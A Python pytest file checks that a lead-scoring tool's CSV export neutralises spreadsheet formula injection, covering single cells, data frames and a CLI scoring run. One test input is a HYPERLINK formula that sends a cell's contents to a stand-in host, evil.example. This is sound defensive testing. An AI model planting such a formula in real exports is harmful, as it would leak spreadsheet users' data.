"""CSV that leadml writes cannot run as spreadsheet formulas (OWASP CSV injection)."""

from __future__ import annotations

import csv
import math
from pathlib import Path

import pandas as pd
import pytest
from cli_testkit import run_cli

from conftest import TrainedModel
from leadml import demo
from leadml.spreadsheet import csv_text, neutralise_cell, neutralise_frame


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\t=x", "'\t=x"),
        ("\r=x", "'\r=x"),
        ("-0.5", "-0.5"),  # a plain number: a spreadsheet reads it as the number
        ("+7", "+7"),
        ("Referral", "Referral"),
        ("a=b", "a=b"),
        (-0.5, -0.5),
        (3, 3),
        (None, None),
    ],
)
def test_neutralise_cell(cell: object, written: object) -> None:
    assert neutralise_cell(cell) == written


def test_numeric_columns_stay_numbers_and_text_cells_are_neutralised() -> None:
    frame = pd.DataFrame(
        {
            "lead_id": ["=HYPERLINK(1)", "L2", None],
            "delta": [-0.5, 1.0, float("nan")],
            "mixed": ["@x", -3, "ok"],
            "=name": [1, 2, 3],
        }
    )
    safe = neutralise_frame(frame)
    assert list(safe.columns) == ["lead_id", "delta", "mixed", "'=name"]
    assert safe["lead_id"].tolist()[:2] == ["'=HYPERLINK(1)", "L2"]
    assert safe["lead_id"].isna().tolist() == [False, False, True]
    assert safe["delta"].dtype == float and safe["delta"].tolist()[:2] == [-0.5, 1.0]
    assert math.isnan(safe["delta"].iloc[2])
    assert safe["mixed"].tolist() == ["'@x", -3, "ok"]
    assert frame["lead_id"].iloc[0] == "=HYPERLINK(1)"  # the input is not changed


def test_csv_text() -> None:
    text = csv_text(["id", "p"], [["=evil", -0.25], ["ok", None]])
    assert list(csv.reader(text.splitlines())) == [["id", "p"], ["'=evil", "-0.25"], ["ok", ""]]


def test_leadml_score_writes_neutralised_csv(
    trained: TrainedModel,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    leads = demo.generate_leads(50, seed=3)
    leads[demo.ID_COLUMN] = leads[demo.ID_COLUMN].astype(str)
    leads.loc[0, demo.ID_COLUMN] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    leads.loc[1, demo.ID_COLUMN] = "@SUM(1+1)"
    source = tmp_path / "leads.csv"
    leads.to_csv(source, index=False)
    out = tmp_path / "ranked.csv"
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("LEADML_DATABASE_URL", f"sqlite:///{tmp_path / 'app.db'}")
    code, err = run_cli(
        ["score", str(source), "-o", str(out), "--model", str(trained.export_dir)], capsys
    )
    assert code == 0, err
    ranked = pd.read_csv(out, keep_default_na=False)
    ids = set(ranked[demo.ID_COLUMN].astype(str))
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"open")' in ids
    assert "'@SUM(1+1)" in ids
    assert not any(i.startswith(("=", "@", "+")) for i in ids)
    assert pd.api.types.is_float_dtype(ranked["probability"])
